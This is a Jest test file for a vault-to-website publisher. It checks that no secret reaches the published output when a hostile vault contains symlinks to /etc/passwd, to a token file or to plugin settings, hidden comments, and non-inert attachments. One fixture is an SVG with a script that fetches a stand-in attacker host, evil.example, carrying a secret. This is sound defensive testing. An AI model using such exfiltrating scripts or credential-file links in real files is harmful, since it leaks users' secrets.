// Privacy against a hostile vault: links that lead out of the vault, comments reached through partial
// embeds, and attachments that are not inert. No secret reaches any output file, in either layout.
import { mkdirSync, symlinkSync, writeFileSync } from "fs";
import * as path from "path";
import { buildPublish, publishOptions } from "../../../src/core/publish";
import type { SiteLayout } from "../../../src/core/publish";
import { createFolderTarget } from "../../../src/cli/folder-target";
import { diskVaultReader } from "../../../src/cli/publish-vault";
import { cli, readTree, writeVault } from "./disk";
import { tempDir } from "../../helpers/temp";

const secret = (n: number): string => `zqxhostile${n}marker`;

/** Publishes `vault` to `out` in `layout`; returns every output byte (lower case) and the reader's skipped list. */
async function publishAll(vault: string, out: string, layout: SiteLayout): Promise<{ bytes: string; files: string[]; skipped: string[] }> {
	const reader = await diskVaultReader(vault);
	const target = createFolderTarget(out);
	const build = await buildPublish({ vault: reader, manifest: await target.readManifest(), options: publishOptions({ layout }) });
	expect(build.errors).toEqual([]);
	await target.commit(build.changes, build.manifest, "publish");
	const tree = readTree(out);
	const files = [...tree.keys()];
	const bytes = files.map((p) => `${p}\n${tree.get(p)?.toString("latin1")}`).join("\n").toLowerCase();
	return { bytes, files, skipped: reader.skipped.map((s) => s.path) };
}

describe.each(["site", "digital-garden"] as SiteLayout[])("symlinks out of the vault (%s layout)", (layout) => {
	const root = tempDir("pg-symlinks-");
	const vault = path.join(root, "vault");
	const outside = path.join(root, "outside");
	let result: { bytes: string; files: string[]; skipped: string[] };

	beforeAll(async () => {
		mkdirSync(path.join(outside, "folder"), { recursive: true });
		writeFileSync(path.join(outside, "environ"), `PODCAST_GARDEN_GIT_TOKEN=${secret(1)}`);
		writeFileSync(path.join(outside, "Outside note.md"), `---\ndg-publish: true\n---\n${secret(2)}\n`);
		writeFileSync(path.join(outside, "folder", "Deep.md"), `---\ndg-publish: true\n---\n${secret(3)}\n`);
		writeFileSync(path.join(outside, "folder", "pic.png"), `PNG ${secret(4)}`);
		writeVault(vault, {
			"Public.md": "---\ndg-publish: true\n---\n# Public\n![[env.png]]\n![[passwd.png]]\n![[pic.png]]\n![[inside-link.png]]\n[[Linked out]] and [[Deep]]\n",
			"real.png": "PNG public picture",
			"Inner/Kept.md": "---\ndg-publish: true\n---\nkept through an inner link\n",
		});
		symlinkSync(path.join(outside, "environ"), path.join(vault, "env.png"));
		symlinkSync("/etc/passwd", path.join(vault, "passwd.png"));
		symlinkSync(path.join(outside, "Outside note.md"), path.join(vault, "Linked out.md"));
		symlinkSync(path.join(outside, "folder"), path.join(vault, "Linked folder"));
		// Links that stay inside the vault may be followed (and a link back up must not loop forever).
		symlinkSync(path.join(vault, "real.png"), path.join(vault, "inside-link.png"));
		symlinkSync(path.join(vault, "Inner"), path.join(vault, "Inner link"));
		symlinkSync(vault, path.join(vault, "Inner", "Loop"));
		// A link into the config folder, where the plugin keeps its settings (a git token among them).
		mkdirSync(path.join(vault, ".obsidian", "plugins"), { recursive: true });
		writeFileSync(path.join(vault, ".obsidian", "plugins", "Settings.md"), `---\ndg-publish: true\n---\n${secret(6)}\n`);
		symlinkSync(path.join(vault, ".obsidian", "plugins"), path.join(vault, "Config link"));
		symlinkSync(path.join(vault, ".obsidian", "plugins", "Settings.md"), path.join(vault, "Settings link.md"));
		result = await publishAll(vault, path.join(root, "site"), layout);
	});

	test("nothing outside the vault is published", () => {
		for (const n of [1, 2, 3, 4, 6]) expect(result.bytes.includes(secret(n))).toBe(false);
		expect(result.bytes).not.toContain("root:x:0");
		expect(result.bytes).not.toContain("podcast_garden_git_token");
	});

	test("links that stay inside the vault are followed", () => {
		expect(result.bytes).toContain("png public picture");
		expect(result.bytes).toContain("kept through an inner link");
	});

	test("every skipped link is named", () => {
		expect(result.skipped).toEqual(expect.arrayContaining(["env.png", "passwd.png", "Linked out.md", "Linked folder", "Config link", "Settings link.md"]));
		expect(result.skipped).not.toContain("inside-link.png");
	});
});

describe("symlinks out of the vault: the CLI says what it skipped", () => {
	test("one line per skipped link, in the text output and the JSON report", async () => {
		const root = tempDir("pg-symlinks-cli-");
		const vault = path.join(root, "vault");
		writeVault(vault, { "Public.md": "---\ndg-publish: true\n---\n![[env.png]]\n" });
		writeFileSync(path.join(root, "environ"), `TOKEN=${secret(5)}`);
		symlinkSync(path.join(root, "environ"), path.join(vault, "env.png"));
		const text = await cli([vault, "--out", path.join(root, "site")]);
		expect(text.code).toBe(0);
		expect(text.err).toMatch(/skipped env\.png: .*outside the vault/);
		const json = await cli([vault, "--out", path.join(root, "site2"), "--json"]);
		const report = JSON.parse(json.out) as { skipped: { path: string; message: string }[] };
		expect(report.skipped.map((s) => s.path)).toEqual(["env.png"]);
		const tree = readTree(root);
		for (const [p, bytes] of tree) if (!p.startsWith("vault/") && p !== "environ") expect(bytes.toString("latin1")).not.toContain(secret(5));
	});
});

describe.each(["site", "digital-garden"] as SiteLayout[])("comments reached through partial embeds (%s layout)", (layout) => {
	test("a heading or block id inside %% … %% embeds nothing of the comment", async () => {
		const { memoryVault, allText } = await import("./vault");
		const files = {
			"A.md": "---\ndg-publish: true\n---\n# A\n![[B#Hidden Heading]]\n![[B#^blk2]]\n![[B#Open]]\n![[B#^blk9]]\nend of A\n",
			"B.md": [
				"---",
				"dg-publish: true",
				"---",
				"# Open",
				"Public words of B.",
				`Open words %%${secret(10)} ^blk9%% here.`,
				"%%",
				"## Hidden Heading",
				`${secret(11)} under a commented heading`,
				`${secret(12)} in a block ^blk2`,
				"%%",
				"## After",
				"after the comment",
			].join("\n"),
		};
		const build = await buildPublish({ vault: memoryVault(files), manifest: (await import("../../../src/core/publish")).emptyManifest(), options: publishOptions({ layout }) });
		expect(build.errors).toEqual([]);
		const text = allText(build.changes.write).toLowerCase();
		expect(text).toContain("end of a");
		expect(text).toContain("public words of b");
		for (const n of [10, 11, 12]) expect(text.includes(secret(n))).toBe(false);
	});
});

describe.each(["site", "digital-garden"] as SiteLayout[])("attachments that are not inert (%s layout)", (layout) => {
	test("a canvas, an SVG and an HTML file are never copied; their links keep only their text", async () => {
		const { memoryVault, allText } = await import("./vault");
		const canvas = JSON.stringify({ nodes: [{ id: "1", type: "text", text: `${secret(20)} private card` }, { id: "2", type: "file", file: `Private/${secret(21)}.md` }], edges: [] });
		const files = {
			"A.md": "---\ndg-publish: true\n---\n# A\n[[Board.canvas|the board]] and ![[Board.canvas]]\n![[logo.svg]] [[page.html|a page]]\n![[ok.png]] ![[talk.mp3]] [[paper.pdf]]\n",
			"Board.canvas": canvas,
			"logo.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/${secret(22)}")</script></svg>`,
			"page.html": `<script>${secret(23)}</script>`,
			[`Private/${secret(21)}.md`]: "private",
			"ok.png": new TextEncoder().encode("PNG inert picture"),
			"talk.mp3": new TextEncoder().encode("ID3 inert audio"),
			"paper.pdf": new TextEncoder().encode("%PDF inert paper"),
		};
		const build = await buildPublish({ vault: memoryVault(files), manifest: (await import("../../../src/core/publish")).emptyManifest(), options: publishOptions({ layout }) });
		expect(build.errors).toEqual([]);
		const paths = build.changes.write.map((f) => f.path);
		expect(paths.some((p) => /\.(canvas|svg|html?)$/i.test(p) && !p.endsWith("index.html"))).toBe(false);
		const text = allText(build.changes.write).toLowerCase();
		for (const n of [20, 21, 22, 23]) expect(text.includes(secret(n))).toBe(false);
		expect(text).not.toContain("<svg");
		for (const inert of ["png inert picture", "id3 inert audio", "%pdf inert paper"]) expect(text).toContain(inert);
		expect(text).toContain("the board");
		expect(text).toContain("a page");
	});
});
